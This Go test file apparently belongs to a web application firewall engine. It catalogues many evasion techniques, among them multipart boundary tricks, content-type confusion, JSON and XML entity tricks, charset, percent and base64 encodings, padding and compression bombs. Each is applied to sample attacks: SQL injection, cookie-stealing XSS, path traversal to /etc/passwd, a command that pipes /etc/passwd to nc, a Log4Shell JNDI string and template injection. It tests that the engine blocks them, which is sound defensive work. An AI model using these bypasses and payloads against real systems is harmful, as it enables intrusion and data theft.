package engine

import (
	"archive/zip"
	"bytes"
	"compress/flate"
	"compress/gzip"
	"compress/zlib"
	"encoding/base64"
	"encoding/binary"
	"encoding/hex"
	"fmt"
	"hash/crc32"
	"io"
	"math/rand/v2"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/gabionhq/gabion/engine/rule"
)

// A bypass is a request that hides an attack from who reads it otherwise
// than the application.
type bypass struct {
	family, name string
	request
	reader string   // how back ends read it: json, multipart, xml, form, query, semicolon, path
	before []string // what they undo of the body before
	after  []string // what applications undo of the values after
	want   string   // what is read then
	alone  bool     // no two back ends at hand read it; blocked all the same, but not counted
}

// hidden are the attacks that every mutator is tried with.
var hidden = []string{
	`' UNION SELECT login,password FROM users WHERE '1'='1`,
	`<script>alert(document.cookie)</script>`,
	`../../../../../etc/passwd`,
	`;cat /etc/passwd|nc 10.0.0.1 99`,
	`${jndi:ldap://evil.example/a}`,
	`{{''.__class__.__mro__[1].__subclasses__()}}`,
}

// bypasses returns all cases.
func bypasses() []bypass {
	var all []bypass
	for _, family := range []func(string) []bypass{
		multipartBypasses, typeBypasses, jsonBypasses, xmlBypasses, urlBypasses, charsetBypasses, windowBypasses, codingBypasses,
	} {
		for _, p := range hidden {
			all = append(all, family(p)...)
		}
	}
	return append(all, lastly()...)
}

func TestBypasses(t *testing.T) {
	e := New(Options{})
	for _, b := range bypasses() {
		v, rep := inspect(e, nil, Env{Mode: rule.Block}, &b.request, whole)
		if v.Decision != Block {
			t.Errorf("%s, %s: %q passes with %.2f, limits %v\n%.300q", b.family, b.name, b.want, v.Score, rep.Limits, b.target+"\n"+b.body)
		}
	}
}

// TestBypassTwins sends ordinary texts through the same mutators: what is
// blocked must be the attack, not the way in which it is written.
func TestBypassTwins(t *testing.T) {
	e := New(Options{})
	for _, family := range []func(string) []bypass{
		multipartBypasses, typeBypasses, jsonBypasses, xmlBypasses, urlBypasses, charsetBypasses, windowBypasses, codingBypasses,
	} {
		for _, b := range family("The quick brown fox, aged 13, jumps over it.") {
			if v, rep := inspect(e, nil, Env{Mode: rule.Block}, &b.request, whole); v.Decision != Pass && !suspicious[b.name] {
				t.Errorf("%s, %s: blocked: %+v\n%.300q", b.family, b.name, rep.Findings, b.target+"\n"+b.body)
			}
		}
	}
}

// suspicious are mutators that no honest client applies to anything.
var suspicious = map[string]bool{
	"part of another boundary before":         true,
	"two boundaries in use, the first counts": true,
	"two boundaries in use, the last counts":  true,
	"entity":                                  true,
	"entity in pieces":                        true,
	"entity in an entity":                     true,
	"entity in an attribute":                  true,
	"parameter entity":                        true,
	"part in UTF-16":                          true,
	"part in UTF-7":                           true,
	"part in EBCDIC":                          true,
}

// lone marks a case that no two back ends at hand read.
func lone(b *bypass) *bypass {
	b.alone = true
	return b
}

func post(contentType, body string) request {
	r := request{method: "POST", target: "/items", body: body}
	if contentType != "" {
		r.fields = []string{"Content-Type", contentType}
	}
	return r
}

const (
	sep  = "gAbIoN"
	line = "\r\n"
)

// part is one field of a form.
func part(value string, fields ...string) string {
	return "--" + sep + line + `Content-Disposition: form-data; name="q"` + line + strings.Join(append(fields, ""), line) + line + value + line
}

func multipartBypasses(p string) []bypass {
	plain := part(p) + "--" + sep + "--" + line
	declared := "multipart/form-data; boundary=" + sep
	other := part("1") + "--" + sep + "--" + line
	field := func(disposition string) string {
		return "--" + sep + line + "Content-Disposition: " + disposition + line + line + p + line + "--" + sep + "--" + line
	}
	named := strings.NewReplacer(`"`, `%22`).Replace(p)
	var all []bypass
	f := func(name, contentType, body string) *bypass {
		all = append(all, bypass{family: "multipart", name: name, request: post(contentType, body), reader: "multipart", want: p})
		return &all[len(all)-1]
	}
	f("quoted boundary", `multipart/form-data; boundary="`+sep+`"`, plain)
	f("escaped boundary", `multipart/form-data; boundary="g\AbIoN"`, plain)
	f("boundary in capitals", "Multipart/Form-Data; BOUNDARY="+sep, plain)
	f("parameters before", "multipart/form-data; charset=utf-8; x=y; boundary="+sep, plain)
	f("junk after the boundary", "multipart/form-data; boundary="+sep+"; x", plain)
	f("no space", "multipart/form-data;boundary="+sep, plain)
	f("comma after the boundary", "multipart/form-data; boundary="+sep+",x", plain)
	f("two boundaries, the first counts", "multipart/form-data; boundary="+sep+"; boundary=other", plain)
	lone(f("two boundaries, the last counts", "multipart/form-data; boundary=other; boundary="+sep, plain))
	f("boundary in pieces", "multipart/form-data; boundary*0=gAb; boundary*1=IoN", plain)
	f("boundary in pieces and whole", "multipart/form-data; boundary=other; boundary*0=gAb; boundary*1=IoN", plain)
	f("boundary in pieces behind text", "multipart/form-data; boundary*0=gAb; boundary*1=IoN", "Text"+line+part(`{"a":`+escapedJSON(p)+`}`)+"--"+sep+"--"+line).after = []string{"json"}
	swap := func(s string) string { return strings.ReplaceAll(s, sep, "other") }
	lone(f("two boundaries in use, the first counts", "multipart/form-data; boundary="+sep+"; boundary=other", swap(part("1"))+part(`{"a":`+escapedJSON(p)+`}`)+"--"+sep+"--"+line+"--other--"+line)).after = []string{"json"}
	lone(f("two boundaries in use, the last counts", "multipart/form-data; boundary=other; boundary="+sep, swap(part("1"))+part(`{"a":`+escapedJSON(p)+`}`)+"--"+sep+"--"+line+"--other--"+line)).after = []string{"json"}
	f("boundary in another charset", "multipart/form-data; boundary*=us-ascii''"+sep, plain)
	f("boundary with punctuation", "multipart/form-data; boundary=\"g'(A)+_,-./:=?b\"", strings.ReplaceAll(plain, sep, "g'(A)+_,-./:=?b"))
	f("spaces behind the boundary", declared, strings.ReplaceAll(plain, "--"+sep+line, "--"+sep+" \t "+line))
	f("line feeds alone", declared, strings.ReplaceAll(plain, line, "\n"))
	f("no last boundary", declared, part(p))
	f("text before", declared, "This is a message in several parts."+line+plain)
	f("part of another boundary before", declared, "--other"+line+`Content-Disposition: form-data; name="a"`+line+line+"1"+line+"--other--"+line+plain)
	f("another boundary inside", declared, part("x"+line+"--other"+line+p)+"--"+sep+"--"+line)
	f("longer boundary inside", declared, part("x"+line+"--"+sep+"x"+line+p)+"--"+sep+"--"+line)
	f("shorter boundary inside", declared, part("x"+line+"--gAb"+line+p)+"--"+sep+"--"+line)
	f("text behind", declared, part("1")+part(p)+"--"+sep+"--"+line+"epilogue")
	f("empty part before", declared, part("")+plain)
	f("file part before", declared, "--"+sep+line+`Content-Disposition: form-data; name="f"; filename="a.png"`+line+"Content-Type: image/png"+line+line+"\x89PNG\r\n\x1a\n"+line+plain)
	f("attack in the name", declared, "--"+sep+line+`Content-Disposition: form-data; name="`+p+`"`+line+line+"1"+line+"--"+sep+"--"+line)
	f("attack in a name with escapes", declared, "--"+sep+line+`Content-Disposition: form-data; name="x\"`+p+`"`+line+line+"1"+line+"--"+sep+"--"+line)
	f("name without quotes", declared, field("form-data; name=q"))
	f("name twice", declared, field(`form-data; name="a"; name="q"`))
	lone(f("names with a NUL", declared, field("form-data; name=\"q\x00.txt\"")))
	f("no name", declared, field("form-data"))
	f("disposition in lower case", declared, strings.Replace(plain, "Content-Disposition", "content-disposition", 1))
	f("folded disposition", declared, field("form-data;"+line+" name=\"q\""))
	f("attachment", declared, field(`attachment; name="q"`))
	f("fields before", declared, strings.Replace(plain, "Content-Disposition", "X-A: b"+line+"Content-Disposition", 1))
	f("attack in the file name", declared, field(`form-data; name="f"; filename="`+named+`"`)).request.body = strings.Replace(field(`form-data; name="f"; filename="`+p+`"`), line+line+p, line+line+"x", 1)
	lone(f("extended file name", declared, strings.Replace(field(`form-data; name="f"; filename*=utf-8''`+percent(p)), line+line+p, line+line+"x", 1)))
	lone(f("file name in pieces", declared, strings.Replace(field(`form-data; name="f"; filename*0="`+p[:3]+`"; filename*1="`+p[3:]+`"`), line+line+p, line+line+"x", 1)))
	f("part in base64", declared, part(wrapped(base64.StdEncoding.EncodeToString([]byte(p))), "Content-Transfer-Encoding: base64")+"--"+sep+"--"+line)
	f("part in quoted-printable", declared, part(quotedPrintable(p), "Content-Transfer-Encoding: quoted-printable")+"--"+sep+"--"+line)
	lone(f("part in UTF-16", declared, part(utf16le(p), "Content-Type: text/plain; charset=utf-16le")+"--"+sep+"--"+line))
	lone(f("part in UTF-7", declared, part(utf7(p), "Content-Type: text/plain; charset=utf-7")+"--"+sep+"--"+line))
	lone(f("part in EBCDIC", declared, part(ebcdic(p), "Content-Type: text/plain; charset=cp037")+"--"+sep+"--"+line))
	f("part in JSON", declared, part(`{"a":`+escapedJSON(p)+`}`, "Content-Type: application/json")+"--"+sep+"--"+line).after = []string{"json"}
	f("part in a form", declared, part("a="+percent(p), "Content-Type: application/x-www-form-urlencoded")+"--"+sep+"--"+line).after = []string{"form"}
	f("nested", declared, "--"+sep+line+`Content-Disposition: form-data; name="q"`+line+"Content-Type: multipart/mixed; boundary=in"+line+line+
		"--in"+line+`Content-Disposition: attachment; name="r"`+line+line+p+line+"--in--"+line+"--"+sep+"--"+line)
	f("mixed", "multipart/mixed; boundary="+sep, plain)
	f("related", `multipart/related; type="text/plain"; boundary=`+sep, plain)
	f("the last of two fields", declared, strings.TrimSuffix(other, "--"+sep+"--"+line)+plain)
	f("the first of two fields", declared, part(p)+other)
	f("long header before", declared, part(p, "X-Pad: "+strings.Repeat("a", 7000))+"--"+sep+"--"+line)
	f("fifty fields before", declared, strings.Repeat(part("1"), 50)+plain)
	return all
}

func typeBypasses(p string) []bypass {
	var all []bypass
	f := func(name, contentType, reader, body string) *bypass {
		all = append(all, bypass{family: "type", name: name, request: post(contentType, body), reader: reader, want: p})
		return &all[len(all)-1]
	}
	object := `{"a":1,"q":` + escapedJSON(p) + `}`
	form := "a=1&q=" + percent(p)
	doc := "<r><a>1</a><q>" + references(p) + "</q></r>"
	parts := part(p) + "--" + sep + "--" + line
	for _, contentType := range []string{
		"", "text/plain", "application/x-www-form-urlencoded", "multipart/form-data; boundary=" + sep, "application/octet-stream",
		"APPLICATION/JSON", "application/json; charset=utf-8; junk", "application/vnd.api+json", "application/jsonp", "text/json", "image/png", "application/xml", "*/*", "application/json;",
	} {
		f("JSON as "+contentType, contentType, "json", object)
	}
	for _, contentType := range []string{"", "text/plain", "application/json", "multipart/form-data; boundary=" + sep, "application/xml", "application/x-www-form-urlencoded; charset=x"} {
		f("form as "+contentType, contentType, "form", form)
	}
	for _, contentType := range []string{"", "text/plain", "application/json", "application/x-www-form-urlencoded", "application/soap+xml", "application/octet-stream"} {
		f("XML as "+contentType, contentType, "xml", doc)
	}
	twice := f("two types, JSON last", "text/plain", "json", object)
	twice.fields = append(twice.fields, "Content-Type", "application/json")
	twice = f("two types, JSON first", "application/json", "json", object)
	twice.fields = append(twice.fields, "Content-Type", "application/x-www-form-urlencoded")
	f("two types in one field", "application/json, text/plain", "json", object)
	twice = f("two types, multipart first", "multipart/form-data; boundary="+sep, "multipart", parts)
	twice.fields = append(twice.fields, "Content-Type", "application/json")
	return all
}

func jsonBypasses(p string) []bypass {
	var all []bypass
	f := func(name, body string) *bypass {
		all = append(all, bypass{family: "json", name: name, request: post("application/json", body), reader: "json", want: p})
		return &all[len(all)-1]
	}
	q := escapedJSON(p)
	plain := quoted(p)
	object := `{"q":` + q + `}`
	f("all escaped", object)
	f("escapes in capitals", `{"q":`+strings.ReplaceAll(strings.ToUpper(q), `\U`, `\u`)+`}`)
	f("escaped name", `{`+q+`:1}`)
	f("duplicate name, the last counts", `{"q":"1","q":`+q+`}`)
	f("duplicate name, the first counts", `{"q":`+q+`,"q":"1"}`)
	f("duplicate name by escape", `{"q":"1","\u0071":`+q+`}`)
	f("deep", strings.Repeat(`{"a":[`, 60)+q+strings.Repeat(`]}`, 60))
	f("NaN before", `{"a":NaN,"q":`+q+`}`)
	f("Infinity before", `{"a":-Infinity,"q":`+q+`}`)
	f("large number before", `{"a":1e400,"b":`+strings.Repeat("9", 400)+`,"q":`+q+`}`)
	f("lone surrogate before", `{"a":"\ud800","q":"\udfff`+q[1:]+`}`)
	f("NUL before", `{"q":"\u0000`+q[1:]+`}`)
	f("byte order mark", "\xef\xbb\xbf"+object)
	f("white space before", "\r\n\t  "+object)
	f("a document behind", `{"a":1}`+"\n"+object)
	f("a document right behind", `{"a":1}`+object)
	f("garbage behind", object+" }]garbage")
	f("string alone", q)
	f("array", `[1,[2,[`+q+`]]]`)
	f("JSON in a string", `{"q":`+quoted(object)+`}`).after = []string{"json"}
	lone(f("JSON in a string twice", `{"q":`+quoted(`{"a":`+quoted(object)+`}`)+`}`)).after = []string{"json", "json"}
	f("percent escapes in a string", `{"q":`+quoted(percent(p))+`}`).after = []string{"unquote"}
	f("some percent escapes in a string", `{"q":`+quoted(strings.NewReplacer(" ", "%20", "<", "%3C", "/", "%2f", ":", "%3a", "'", "%27").Replace(p))+`}`).after = []string{"unquote"}
	f("percent escapes twice in a string", `{"q":`+quoted(percent(percent(p)))+`}`).after = []string{"unquote", "unquote"}
	f("references in a string", `{"q":`+quoted(references(p))+`}`).after = []string{"html"}
	f("base64 in a string", `{"q":"`+base64.StdEncoding.EncodeToString([]byte(p))+`"}`).after = []string{"base64"}
	f("base64url in a string", `{"q":"`+base64.RawURLEncoding.EncodeToString([]byte(p))+`"}`).after = []string{"base64url"}
	f("hex in a string", `{"q":"`+hex.EncodeToString([]byte(p))+`"}`).after = []string{"hex"}
	f("form in a string", `{"q":`+quoted("a=1&b="+percent(p))+`}`).after = []string{"form"}
	f("XML in a string", `{"q":`+quoted("<a><b>"+references(p)+"</b></a>")+`}`).after = []string{"xml"}
	f("gzip in base64 in a string", `{"q":"`+base64.StdEncoding.EncodeToString([]byte(zipped(p)))+`"}`).after = []string{"base64gunzip"}
	f("single quotes", `{'q':'`+q[1:len(q)-1]+`'}`)
	f("trailing comma", `{"q":`+q+`,}`)
	f("trailing comma in an array", `["1",`+q+`,]`)
	f("name without quotes", `{q: `+q+`}`)
	lone(f("comment", "{/* a */\"q\": // b\n"+q+"}"))
	lone(f("comment that looks like a string", "{\"a\": 1 /* \" */, \"q\":"+q+" /* \" */}"))
	lone(f("tail of a comment", "{ # a\n \"q\": "+q+"\n}"))
	f("JavaScript escapes", `{"q":"`+hexEscaped(p)+`"}`)
	lone(f("control characters in a string", "{\"a\":\"\n\t\",\"q\":"+q+"}"))
	f("UTF-16", utf16le(object)).before = []string{"charset:utf-16le"}
	f("UTF-16 with a mark", "\xff\xfe"+utf16le(object)).before = []string{"charset:utf-16"}
	f("UTF-16 big endian", utf16be(object)).before = []string{"charset:utf-16be"}
	f("UTF-32", utf32le(object)).before = []string{"charset:utf-32le"}
	f("UTF-32 big endian", utf32be(object)).before = []string{"charset:utf-32be"}
	f("solidus escaped", `{"q":`+strings.ReplaceAll(plain, "/", `\/`)+`}`)
	return all
}

func xmlBypasses(p string) []bypass {
	var all []bypass
	f := func(name, body string) *bypass {
		all = append(all, bypass{family: "xml", name: name, request: post("application/xml", body), reader: "xml", want: p})
		return &all[len(all)-1]
	}
	q := references(p)
	esc := strings.NewReplacer("&", "&amp;", "<", "&lt;").Replace(p)
	attr := strings.NewReplacer("&", "&amp;", "<", "&lt;", `"`, "&quot;").Replace(p)
	h := len(p) / 2
	cd := func(s string) string { return "<![CDATA[" + s + "]]>" }
	lt := func(s string) string { return strings.NewReplacer("&", "&amp;", "<", "&lt;").Replace(s) }
	doc := "<r><q>" + q + "</q></r>"
	f("references", doc)
	f("decimal references", "<r><q>"+decimals(p)+"</q></r>")
	f("references with zeros", "<r><q>"+strings.ReplaceAll(q, "&#x", "&#x0000000")+"</q></r>")
	f("CDATA", "<r><q>"+cd(p)+"</q></r>")
	f("CDATA in the middle", "<r><q>"+lt(p[:h-2])+cd(p[h-2:h+2])+lt(p[h+2:])+"</q></r>")
	f("CDATA in pieces", "<r><q>"+cd(p[:h])+cd(p[h:])+"</q></r>")
	f("CDATA of each letter", "<r><q>"+each(p, cd)+"</q></r>")
	f("comment in the middle", "<r><q>"+lt(p[:h])+"<!-- a -->"+lt(p[h:])+"</q></r>")
	f("comments between letters", "<r><q>"+each(p, func(s string) string { return lt(s) + "<!---->" })+"</q></r>")
	f("instruction in the middle", "<r><q>"+lt(p[:h])+"<?a b?>"+lt(p[h:])+"</q></r>")
	f("attribute", `<r><q a="`+attr+`"/></r>`)
	f("attribute in references", `<r><q a="`+q+`"/></r>`)
	f("namespaces", `<s:r xmlns:s="urn:a" xmlns="urn:b"><s:q>`+q+`</s:q></s:r>`)
	f("declaration", `<?xml version="1.0" encoding="utf-8" standalone="yes"?>`+doc)
	lone(f("Latin-1", `<?xml version="1.0" encoding="iso-8859-1"?>`+"<r><a>\xe9</a><q>"+q+"</q></r>"))
	f("byte order mark", "\xef\xbb\xbf"+doc)
	f("instructions before", `<?xml version="1.0"?><?a b?><!-- c -->`+doc)
	lone(f("internal subset", "<!DOCTYPE r [<!ELEMENT r ANY>]>"+doc))
	lone(f("entity", `<!DOCTYPE r [<!ENTITY a "`+q+`">]><r><q>&a;</q></r>`))
	lone(f("entity in pieces", `<!DOCTYPE r [<!ENTITY a "`+references(p[:h])+`"><!ENTITY b "`+references(p[h:])+`">]><r><q>&a;&b;</q></r>`))
	lone(f("entity in an entity", `<!DOCTYPE r [<!ENTITY a "`+references(p[:h])+`"><!ENTITY b "&a;`+references(p[h:])+`">]><r><q>&b;</q></r>`))
	lone(f("entity in an attribute", `<!DOCTYPE r [<!ENTITY a "`+strings.ReplaceAll(q, "&#x3c;", "&#x26;lt;")+`">]><r><q a="&a;"/></r>`))
	lone(f("parameter entity", `<!DOCTYPE r [<!ENTITY % d "<!ENTITY a '`+strings.ReplaceAll(q, "&#x", "&#x26;#x")+`'>"> %d;]><r><q>&a;</q></r>`))
	lone(f("default attribute", `<!DOCTYPE r [<!ATTLIST q a CDATA "`+q+`">]><r><q/></r>`))
	lone(f("UTF-16", "\xff\xfe"+utf16le(`<?xml version="1.0" encoding="utf-16"?>`+doc)))
	lone(f("UTF-16 big endian", "\xfe\xff"+utf16be(`<?xml version="1.0" encoding="utf-16"?>`+doc)))
	lone(f("UTF-7", `<?xml version="1.0" encoding="utf-7"?>`+utf7("<r><q>"+esc+"</q></r>"))).before = []string{"charset:utf-7"}
	lone(f("EBCDIC", ebcdic(`<?xml version="1.0"?>`+doc))).before = []string{"charset:cp037"}
	f("percent escapes", "<r><q>"+percent(p)+"</q></r>").after = []string{"unquote"}
	f("base64", "<r><q>"+base64.StdEncoding.EncodeToString([]byte(p))+"</q></r>").after = []string{"base64"}
	f("references twice", "<r><q>"+strings.ReplaceAll(q, "&", "&amp;")+"</q></r>").after = []string{"html"}
	f("JSON", "<r><q>"+lt(`{"a":`+escapedJSON(p)+`}`)+"</q></r>").after = []string{"json"}
	return all
}

func urlBypasses(p string) []bypass {
	var all []bypass
	f := func(name, reader, query string, after ...string) *bypass {
		r := request{method: "GET", target: "/items?" + query}
		all = append(all, bypass{family: "url", name: name, request: r, reader: reader, want: p, after: after})
		return &all[len(all)-1]
	}
	q := percent(p)
	f("percent", "query", "q="+q)
	f("percent twice", "query", "q="+percent(q), "unquote")
	f("percent three times", "query", "q="+percent(percent(q)), "unquote", "unquote")
	f("letters in percent", "query", "q="+each(p, func(c string) string { return fmt.Sprintf("%%%02x", c[0]) }))
	lone(f("percent-u", "query", "q="+percentU(p)))
	lone(f("overlong UTF-8", "query", "q="+overlong(p)))
	f("name", "query", q+"=1")
	f("name in brackets", "query", "a["+q+"]=1")
	f("value in brackets", "query", "a[b][c]="+q)
	f("array", "query", "a[]=1&a[]="+q)
	f("no name", "query", "="+q)
	f("empty pairs", "query", "&&&q="+q+"&&")
	f("two question marks", "query", "?q="+q)
	f("semicolons", "semicolon", "a=1;q="+q+";b=2")
	f("semicolons in a value", "semicolon", "a=b&c;q="+q)
	f("the last of two", "query", "q=1&q="+q)
	f("the first of two", "query", "q="+q+"&q=1")
	f("the last of many", "query", strings.Repeat("q=1&", 60)+"q="+q)
	f("NUL before", "query", "q=a%00"+q)
	f("NUL behind", "query", "q="+q+"%00.jpg")
	f("line end before", "query", "q=a%0d%0a"+q)
	f("full width", "query", "q="+percent(fullWidth(p)), "nfkc")
	f("base64", "query", "q="+percent(base64.StdEncoding.EncodeToString([]byte(p))), "base64")
	f("base64 of percent", "query", "q="+percent(base64.StdEncoding.EncodeToString([]byte(q))), "base64", "unquote")
	f("percent of base64 twice", "query", "q="+percent(percent(base64.StdEncoding.EncodeToString([]byte(p)))), "unquote", "base64")
	f("references", "query", "q="+percent(references(p)), "html")
	f("JSON", "query", "q="+percent(`{"a":`+escapedJSON(p)+`}`), "json")
	f("bad escapes before", "query", "q=%zz%"+"&r="+q)
	f("long query", "query", strings.Repeat("a=1&", 3000)+"q="+q)
	all = append(all, bypass{family: "url", name: "form with plus", request: post("application/x-www-form-urlencoded", "q="+strings.ReplaceAll(q, "%20", "+")), reader: "form", want: p})
	all = append(all, bypass{family: "url", name: "form with an ampersand entity", request: post("application/x-www-form-urlencoded", "a=1&amp;q="+q), reader: "form", want: p})
	all = append(all, bypass{family: "url", name: "form with line ends", request: post("application/x-www-form-urlencoded", "a=1\r\n&q="+q+"\r\n"), reader: "form", want: p})
	all = append(all, bypass{family: "url", name: "path parameter", request: request{method: "GET", target: "/items;v=" + strings.ReplaceAll(q, "/", "%2f")}, reader: "path", want: p})
	return all
}

func charsetBypasses(p string) []bypass {
	var all []bypass
	f := func(name, contentType, reader, body string, before ...string) *bypass {
		all = append(all, bypass{family: "charset", name: name, request: post(contentType, body), reader: reader, before: before, want: p})
		return &all[len(all)-1]
	}
	form, object := "q="+percent(p), `{"q":`+quoted(p)+`}`
	const urlencoded = "application/x-www-form-urlencoded; charset="
	f("form in EBCDIC", urlencoded+"ibm037", "form", ebcdic("q="+strings.NewReplacer("%", "%25", "&", "%26", "+", "%2b").Replace(p)), "charset:cp037")
	lone(f("form in EBCDIC with escapes", urlencoded+"IBM037", "form", percent(ebcdic("q"))+"="+percent(ebcdic(p))))
	f("JSON in EBCDIC", "application/json; charset=ibm037", "json", ebcdic(object), "charset:cp037")
	f("JSON in UTF-7", "application/json; charset=utf-7", "json", utf7(object), "charset:utf-7")
	lone(f("form in UTF-7", urlencoded+"utf-7", "form", percent(utf7("q="+percent(p))), "charset:utf-7"))
	f("form in UTF-16", urlencoded+"utf-16le", "form", utf16le(form), "charset:utf-16le")
	f("form in UTF-16 big endian", urlencoded+"utf-16be", "form", utf16be(form), "charset:utf-16be")
	f("form in UTF-32", urlencoded+"utf-32le", "form", utf32le(form), "charset:utf-32le")
	f("form in quotes charset", urlencoded+`"utf-16le"`, "form", utf16le(form), "charset:utf-16le")
	f("value in UTF-7", urlencoded+"utf-8", "form", "q="+percent(utf7(p))).after = []string{"utf7"}
	lone(f("value in UTF-7 with spaces for plus", urlencoded+"utf-8", "form", "q="+strings.ReplaceAll(percent(utf7(p)), "%2B", "+")))
	f("multibyte before", urlencoded+"gbk", "form", "q=%bf"+percent(p))
	f("invalid UTF-8 around", urlencoded+"utf-8", "form", "q=%ff%fe%c0"+percent(p)+"%80")
	return all
}

// inside are the cases that have text before the attack in one value.
var inside = map[string]bool{
	"JSON string": true, "JSON string all escaped": true, "form value": true, "inside of a part": true, "XML text": true, "hex in JSON": true,
	"base64 in JSON": true, "base64 in a form": true, "base64 in lines in a part": true, "base64 in XML": true,
}

func windowBypasses(p string) []bypass {
	var all []bypass
	f := func(name, contentType, reader, body string, after ...string) {
		if inside[name] && strings.HasPrefix(p, "../") {
			return // a path is one at the beginning of a value, not in prose
		}
		all = append(all, bypass{family: "window", name: name, request: post(contentType, body), reader: reader, want: p, after: after})
	}
	pad := strings.Repeat("The quick brown fox jumps over the lazy dog. ", 2300) // 103 KB
	object := func(s string) string { return `{"q":` + s + `}` }
	f("JSON string", "application/json", "json", object(quoted(pad+p+pad)))
	f("JSON string all escaped", "application/json", "json", object(`"`+pad+escapedJSON(p)[1:]))
	f("JSON members before", "application/json", "json", `{"a":`+quoted(pad)+`,"q":`+escapedJSON(p)+`}`)
	f("many members before", "application/json", "json", "["+strings.Repeat(`"a",`, 15000)+escapedJSON(p)+"]")
	f("white space before", "application/json", "json", strings.Repeat(" ", 200_000)+object(escapedJSON(p)))
	f("form value", "application/x-www-form-urlencoded", "form", "q="+percent(pad[:70_000]+p))
	f("form value before", "application/x-www-form-urlencoded", "form", "a="+percent(pad)+"&q="+percent(p))
	f("part before", "multipart/form-data; boundary="+sep, "multipart", part(pad)+part(p)+"--"+sep+"--"+line)
	f("inside of a part", "multipart/form-data; boundary="+sep, "multipart", part(pad+p+pad)+"--"+sep+"--"+line)
	f("XML text", "application/xml", "xml", "<r><q>"+pad+references(p)+"</q></r>")
	f("XML comment before", "application/xml", "xml", "<r><!--"+pad+"--><q>"+references(p)+"</q></r>")
	f("base64 in JSON", "application/json", "json", object(`"`+base64.StdEncoding.EncodeToString([]byte(pad+p+pad))+`"`), "base64")
	f("base64 in a form", "application/x-www-form-urlencoded", "form", "q="+url.QueryEscape(base64.StdEncoding.EncodeToString([]byte(pad+p+pad))), "base64")
	f("base64 in lines in a part", "multipart/form-data; boundary="+sep, "multipart", part(wrapped(base64.StdEncoding.EncodeToString([]byte(pad+p+pad))))+"--"+sep+"--"+line, "base64")
	f("base64 in XML", "application/xml", "xml", "<r><q>"+base64.StdEncoding.EncodeToString([]byte(pad+p+pad))+"</q></r>", "base64")
	f("percent escapes in JSON", "application/json", "json", object(quoted(percent(pad)+percent(p))), "unquote")
	f("hex in JSON", "application/json", "json", object(`"`+hex.EncodeToString([]byte(pad+p+pad))+`"`), "hex")
	return all
}

func codingBypasses(p string) []bypass {
	var all []bypass
	object := `{"q":` + escapedJSON(p) + `}`
	f := func(name, coding, body string, before ...string) {
		r := post("application/json", body)
		if coding != "" {
			r.fields = append(r.fields, "Content-Encoding", coding)
		}
		all = append(all, bypass{family: "coding", name: name, request: r, reader: "json", before: before, want: p})
	}
	pad := `{"a":"` + filler(400_000) + `"}` + "\n"
	f("gzip", "gzip", zipped(object), "gunzip")
	f("gzip in capitals", "GZip", zipped(object), "gunzip")
	f("gzip twice", "gzip, gzip", zipped(zipped(object)), "gunzip", "gunzip")
	f("gzip not declared", "", zipped(object), "gunzip")
	f("gzip declared as deflate", "deflate", zipped(object), "gunzip")
	f("gzip members", "gzip", zipped(`{"a":1}`+"\n")+zipped(object), "gunzip")
	f("deflate", "deflate", deflated(object, true), "inflate")
	f("raw deflate", "deflate", deflated(object, false), "rawinflate")
	f("zlib not declared", "", deflated(object, true), "inflate")
	f("declared but plain", "gzip", object)
	f("unknown coding", "x-mine", object)
	f("identity", "identity", object)
	f("gzip behind padding", "gzip", zipped(pad+object), "gunzip")
	return all
}

// lastly returns cases that are made for one attack.
func lastly() []bypass {
	var all []bypass
	traverse := func(name, target string, after ...string) *bypass {
		all = append(all, bypass{family: "path", name: name, request: request{method: "GET", target: target}, reader: "path", want: "/etc/passwd", after: after})
		return &all[len(all)-1]
	}
	for _, r := range []struct{ name, dots string }{
		{"plain", "../"}, {"percent dots", "%2e%2e/"}, {"one percent dot", ".%2e/"}, {"percent slash", "..%2f"}, {"all percent", "%2e%2e%2f"},
		{"percent twice", "%252e%252e%252f"}, {"backslash", "..\\"}, {"percent backslash", "..%5c"}, {"percent backslash twice", "..%255c"},
		{"mixed slashes", "..%5c../"}, {"double slashes", "..//"}, {"single dots", ".././"}, {"names between", "../x/../"}, {"capitals", "%2E%2E%5C"}, {"path parameter", "..;/"}, {"path parameter with a value", "..;a=b/"},
	} {
		traverse(r.name, "/static/"+strings.Repeat(r.dots, 6)+"etc/passwd")
	}
	for _, r := range []struct{ name, dots string }{
		{"overlong", "..%c0%af"}, {"overlong dots", "%c0%ae%c0%ae/"}, {"overlong by three", "%e0%80%ae%e0%80%ae/"}, {"percent-u", "%u002e%u002e%u2215"}, {"full width", "%ef%bc%8e%ef%bc%8e/"}, {"full width slash", "..%ef%bc%8f"},
	} {
		lone(traverse(r.name, "/static/"+strings.Repeat(r.dots, 6)+"etc/passwd"))
	}
	joined := `1' UNION SELECT 1,2 FROM users-- -`
	all = append(all, bypass{family: "url", name: "joined by commas", want: joined, reader: "query",
		request: request{method: "GET", target: "/items?q=" + percent("1' UNION SELECT 1") + "&q=" + percent("2 FROM users-- -")}})
	all = append(all, bypass{family: "url", name: "joined by commas in a comment", want: "1'/*,*/UNION/*,*/SELECT/*,*/password FROM users-- -", reader: "query",
		request: request{method: "GET", target: "/items?q=" + percent("1'/*") + "&q=" + percent("*/UNION/*") + "&q=" + percent("*/SELECT/*") + "&q=" + percent("*/password FROM users-- -")}})
	all = append(all, bypass{family: "charset", name: "quote behind a multibyte lead", want: "' OR 1=1-- -", reader: "form",
		request: post("application/x-www-form-urlencoded; charset=gbk", "q=%bf%27+OR+1=1--+-")})
	all = append(all, bypass{family: "json", name: "link with percent escapes", want: `<link rel=import href="data:text/html,x">`, reader: "json", after: []string{"unquote"},
		request: post("application/json", `{"q":"<link%20rel=import%20href=\"data:text/html,x\">"}`)})
	bomb := strings.Repeat("0", 64<<20)
	all = append(all, bypass{family: "bomb", name: "gzip", alone: true, request: request{method: "POST", target: "/items", fields: []string{"Content-Type", "application/json", "Content-Encoding", "gzip"}, body: zipped(bomb)}})
	all = append(all, bypass{family: "bomb", name: "gzip not declared", alone: true, request: post("application/octet-stream", zipped(bomb))})
	all = append(all, bypass{family: "bomb", name: "deflate", alone: true, request: request{method: "POST", target: "/items", fields: []string{"Content-Type", "application/json", "Content-Encoding", "deflate"}, body: deflated(bomb, true)}})
	all = append(all, bypass{family: "bomb", name: "gzip of gzip", alone: true, request: request{method: "POST", target: "/items", fields: []string{"Content-Type", "application/json", "Content-Encoding", "gzip, gzip"}, body: zipped(zipped(bomb))}})
